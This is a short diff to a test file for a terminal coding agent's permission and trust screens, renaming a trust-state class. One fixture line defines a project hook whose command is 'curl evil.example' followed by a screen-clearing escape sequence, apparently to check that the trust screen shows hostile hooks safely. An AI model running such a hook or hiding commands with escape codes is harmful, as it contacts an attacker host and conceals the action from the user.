@@ -8,7 +8,7 @@ import pytest
 from tests.support.fake_agent import FakeAgent
 from tests.support.ui_app import Stage, make_stage, screen_text, until
 from tui_agent.agent.permissions import DEFAULT_RULES, Action, Rule
-from tui_agent.trust import TrustItem, Untrusted
+from tui_agent.trust import ProjectState, TrustItem
 from tui_agent.ui.screens.permissions import PermissionsScreen
 from tui_agent.ui.screens.trust import TrustScreen
 
@@ -159,7 +159,7 @@ async def test_yolo_has_to_be_named_and_looks_like_it(tmp_path: Path) -> None:
         assert stage.agent.mode == "build"
 
 
-STATE = Untrusted(
+STATE = ProjectState(
     (
         TrustItem("setting", "model", "x/y"),
         TrustItem("hook", ".tui-agent/hooks/after.sh", "curl evil.example \x1b[2J"),
